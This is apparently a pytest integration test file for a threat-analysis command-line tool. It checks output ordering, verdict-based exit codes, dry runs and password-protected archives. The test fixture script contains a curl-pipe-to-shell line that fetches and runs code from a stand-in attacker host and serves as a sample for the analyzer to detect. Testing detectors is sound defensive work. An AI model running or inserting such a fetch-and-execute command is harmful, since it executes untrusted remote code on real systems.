"""`stack analyze` as users type it, here and against a server, with one answer."""

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
import pyzipper

from tests.integration.cli.conftest import CommandLine, Servers, begin_folder

_FIRST = ["value", "kind", "verdict", "score", "confidence", "summary", "evidence"]
_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/a | sh\n"


@pytest.fixture(scope="module", params=["local", "remote"])
def stack(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[CommandLine]:
    """With few lists of known-good values: to make all ready takes seconds."""
    command = begin_folder(tmp_path_factory.mktemp("cli") / "data")
    command = command.with_variables(STACK_KNOWN_GOOD_LISTS=os.environ["STACK_KNOWN_GOOD_LISTS"])
    servers = Servers()
    if request.param == "remote":
        server = servers(command)
        key = json.loads(command("key", "create", "test", "--json").out)["key"]
        command = command.with_variables(STACK_URL=server.address, STACK_TOKEN=key)
    yield command
    servers.end_all()


def test_values_are_answered_in_their_order_and_a_bad_one_in_its_place(stack: CommandLine) -> None:
    given = "198.51.100[.]7\nno value at all\n\nhxxp://evil[.]example/a\n"
    ended = stack("analyze", "-", "--offline", "--jsonl", given=given)
    first, bad, last = ended.lines
    assert ended.code == 3
    assert list(first)[:7] == _FIRST
    assert (first["value"], first["kind"], first["state"]) == ("198.51.100.7", "ipv4", "done")
    assert (bad["value"], list(bad)) == ("no value at all", ["value", "error"])
    assert bad["error"] in ended.err
    assert (last["value"], last["kind"]) == ("http://evil.example/a", "url")
    assert all({"statement", "weight", "counted", "source"} <= set(each) for each in first["evidence"])


def test_a_file_is_analysed_and_its_verdict_is_the_exit_code_where_that_is_asked_for(
    stack: CommandLine, tmp_path: Path
) -> None:
    path = tmp_path / "install.sh"
    path.write_bytes(_SCRIPT)
    ended = stack("analyze", str(path), "--offline", "--exit-code", "--json")
    [[document]] = ended.lines
    assert (document["kind"], document["name"], document["size"]) == ("file", "install.sh", len(_SCRIPT))
    assert document["evidence"][0]["counted"] > 0
    assert ended.code == {"malicious": 10, "suspicious": 11, "unknown": 12, "benign": 0}[document["verdict"]]
    table = stack("analyze", str(path), "--offline", "--quiet")
    assert table.code == 0
    assert table.out.splitlines()[0] == "value\tkind\tverdict\tscore\tconfidence\tsummary"
    assert table.out.splitlines()[1].startswith(f"install.sh\tfile\t{document['verdict']}\t")


def test_a_dry_run_sends_and_starts_nothing(stack: CommandLine) -> None:
    [[preview]] = stack("analyze", "evil.example", "--dry-run", "--json").lines
    assert preview["kind"] == "domain"
    assert {each["why_not"] for each in preview["planned"]} == {"no-account"}
    assert "nothing was sent" in stack("analyze", "evil.example", "--dry-run").err
    refused = stack("analyze", "evil.example", "--provider", "nobody", "--offline")
    assert refused.code == 2
    assert "there is none called nobody" in refused.err


def test_a_password_opens_an_archive_whatever_it_is_made_of(stack: CommandLine, tmp_path: Path) -> None:
    path = tmp_path / "parcel.zip"
    with pyzipper.AESZipFile(path, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword("ä, b&c".encode())
        archive.writestr("install.sh", _SCRIPT)
    [[closed]] = stack("analyze", str(path), "--offline", "--json").lines
    [[opened]] = stack("analyze", str(path), "--offline", "--json", "--password", "ä, b&c").lines
    assert "text/x-shellscript" in json.dumps(opened["answers"])
    assert "text/x-shellscript" not in json.dumps(closed["answers"])
